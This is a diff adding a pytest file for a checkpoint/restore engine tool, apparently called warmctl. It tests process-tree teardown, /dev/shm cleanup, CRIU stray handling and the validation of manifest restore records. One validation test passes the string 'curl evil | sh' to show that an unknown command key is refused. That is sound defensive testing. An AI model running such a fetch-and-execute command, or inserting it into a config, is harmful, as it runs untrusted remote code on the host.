@@ -1,0 +1,170 @@
+"""Process identity, the one engine teardown, the typed restore record and the checkpoint plan,
+on real processes and real ``/dev/shm`` files (no engine needed)."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+from pydantic import ValidationError
+
+from warmctl.engine.plan import CheckpointPlan
+from warmctl.engine.run import EngineRun
+from warmctl.manifest import CanaryRecord, Manifest, RestoreInfo
+from warmctl.profile import load_profile
+from warmctl.proc import ProcessId, kill_tree, pid_alive, tree_pids
+from warmctl.progress import Reporter
+from warmctl.state import EngineState
+
+SHM = Path("/dev/shm")
+
+
+def _tree(cwd: Path | None = None) -> subprocess.Popen:
+    """A shell with a child (``sleep``): a two-process tree in its own session."""
+    p = subprocess.Popen(["sh", "-c", "sleep 300 & wait"], cwd=cwd, start_new_session=True)
+    deadline = time.monotonic() + 10
+    while len(tree_pids(p.pid)) < 2:
+        assert time.monotonic() < deadline, "the tree's child did not appear"
+        time.sleep(0.02)
+    return p
+
+
+def _reap(*procs: subprocess.Popen) -> None:
+    for p in procs:
+        if p.poll() is None:
+            kill_tree(p.pid, timeout_s=1)
+        p.wait(5)
+
+
+def test_process_identity_survives_only_as_the_same_process():
+    p = _tree()
+    try:
+        me = ProcessId.of(p.pid)
+        assert me is not None and me.alive()
+        imposter = ProcessId(p.pid, me.ctime + 100)  # the same PID, reused by another process
+        assert not imposter.alive()
+        assert kill_tree(imposter) is False and pid_alive(p.pid)  # never signalled
+        child = [x for x in tree_pids(p.pid) if x != p.pid]
+        assert kill_tree(me, timeout_s=5) is True
+        assert p.wait(5) is not None and not any(pid_alive(c) for c in child)
+        assert not me.alive() and kill_tree(me) is False
+        assert ProcessId.of(p.pid) is None or ProcessId.of(p.pid) != me
+    finally:
+        _reap(p)
+
+
+def _shm_file(tag: str) -> Path:
+    f = SHM / f"warmctl-test-{tag}-{uuid.uuid4().hex[:8]}"
+    f.write_bytes(b"x" * 64)
+    return f
+
+
+def test_teardown_kills_tree_and_gate_removes_files_and_record(tmp_path):
+    run_dir = tmp_path / "run"
+    run = EngineRun(run_dir, "e", 1).prepare()
+    engine, gate = _tree(run.dir), _tree()
+    by_name, by_inode = _shm_file("name"), _shm_file("inode")
+    alias = SHM / (by_inode.name + "-alias")  # a second name of the same inode (CRIU's link_remap)
+    os.link(by_inode, alias)
+    try:
+        run.set_root(engine.pid)
+        run.set_gate(gate.pid)
+        st = by_inode.stat()
+        run.shm_files, run.shm_inodes = [str(by_inode)], [(st.st_dev, st.st_ino)]
+        run.images.mkdir()
+        run.record(EngineState(name="e", phase="serving", source="cold", internal_port=1, public_host="127.0.0.1",
+                               public_port=2, served_model_name="e", log_path=str(run.log_path)))
+        saved = json.loads((run.dir / "state.json").read_text())
+        assert (saved["root_pid"], saved["gate_pid"]) == (engine.pid, gate.pid) and saved["root_ctime"]
+
+        again = EngineRun.load(run_dir, "e")  # what down / recovery see
+        assert again is not None and again.alive() and again.root == run.root and again.gate == run.gate
+        rep = again.teardown()
+        assert sorted(rep.killed) == sorted([engine.pid, gate.pid])
+        assert engine.wait(5) is not None and gate.wait(5) is not None
+        # recorded inodes: removed under every name; a name recorded without inodes is not
+        # touched when inodes are known (a restore's names may be another restore's files now)
+        assert not by_inode.exists() and not alias.exists() and by_name.exists()
+        assert rep.removed_scratch and not run.images.exists()
+        assert not (run.dir / "state.json").exists() and EngineRun.load(run_dir, "e") is None
+        assert again.teardown().killed == []  # safe to repeat
+    finally:
+        _reap(engine, gate)
+        for f in (by_name, by_inode, alias):
+            f.unlink(missing_ok=True)
+
+
+def test_teardown_by_name_when_no_inodes_are_recorded(tmp_path):
+    run = EngineRun(tmp_path / "run", "e", 1)
+    f = _shm_file("cold")
+    try:
+        run.shm_files = [str(f)]
+        rep = run.teardown()
+        assert not f.exists() and rep.removed_shm == [str(f)] and rep.killed == []
+    finally:
+        f.unlink(missing_ok=True)
+
+
+def test_teardown_strays_kills_what_the_record_does_not_name(tmp_path):
+    run = EngineRun(tmp_path / "run", "e", 1).prepare()
+    in_dir, restored = _tree(run.dir), _tree()
+    try:
+        run.pidfile.write_text(f"{restored.pid}\n")  # CRIU wrote it; the record never got it
+        assert run.teardown().killed == []  # without strays: nothing is ours by record
+        assert in_dir.poll() is None and restored.poll() is None
+        rep = run.teardown(strays=True)
+        assert set(rep.killed) == {in_dir.pid, restored.pid}
+        assert in_dir.wait(5) is not None and restored.wait(5) is not None
+    finally:
+        _reap(in_dir, restored)
+
+
+def _manifest(restore) -> Manifest:
+    return Manifest(name="t", profile_digest="sha256:" + "0" * 64, profile={}, host={}, files=[], restore=restore,
+                    canary=CanaryRecord(match="tokens", max_tokens=1, logprobs=0, completions=[]))
+
+
+@pytest.mark.parametrize("restore", [
+    {},
+    {"cwd": "/r/tiny", "images_bytes": 10, "internal_port": 18000, "log_path": "/r/tiny/engine.log",
+     "required_files": {"/usr/lib/libc.so.6": 2_000_000}},
+    {"cwd": "/r", "images_bytes": 0, "internal_port": 1, "log_path": "/r/l", "required_files": {},
+     "gpu": {"nspids": [7, 9], "gpu_bytes": {"GPU-a": 123}, "ranks": {"pids": [101, 102], "rollback": None}},
+     "weights": {"bytes": 64, "tensors": 2, "save_s": 0.25,
+                 "ranks": [{"rank": 0, "file": "weights/rank-0.safetensors", "bytes": 64}]}},
+])
+def test_restore_record_reads_back_to_the_same_bytes(restore):
+    """Manifests written when ``restore`` was a plain dict keep their bytes (hence digest)."""
+    data = _manifest(restore).to_bytes()
+    assert json.loads(data)["restore"] == restore
+    m = Manifest.from_bytes(data)
+    assert isinstance(m.restore, RestoreInfo) and m.to_bytes() == data
+    if "gpu" in restore:
+        assert m.restore.gpu.nspids == [7, 9] and m.restore.weights.ranks[0].file == "weights/rank-0.safetensors"
+    assert m.restore.required_files == restore.get("required_files", {})
+
+
+def test_restore_record_refuses_unknown_and_mistyped_keys():
+    with pytest.raises(ValidationError, match="cmd"):
+        _manifest({"cmd": "curl evil | sh"})
+    with pytest.raises(ValidationError, match="internal_port"):
+        _manifest({"internal_port": "eighty"})
+
+
+def test_plan_of_a_plain_profile_does_nothing_but_the_dump(tmp_path):
+    base = load_profile("tiny", [Path(__file__).resolve().parent.parent / "profiles"])
+    plain = CheckpointPlan.of(base)
+    assert not plain.wakes and not plain.cuda
+    run = EngineRun(tmp_path, "p", 1)
+    assert plain.before_dump(run, Reporter()) is None  # no engine is asked anything
+    plain.after_dump(run, Reporter())
+    plain.after_restore(run, RestoreInfo(), [], [], Reporter())
+    plain.wake(run, RestoreInfo(), Reporter())
+    w = CheckpointPlan.of(base.model_copy(update={"checkpoint": base.checkpoint.model_copy(
+        update={"weights_outside_image": True})}))
+    assert w.wakes and w.weights_outside_image and not w.sleep_level
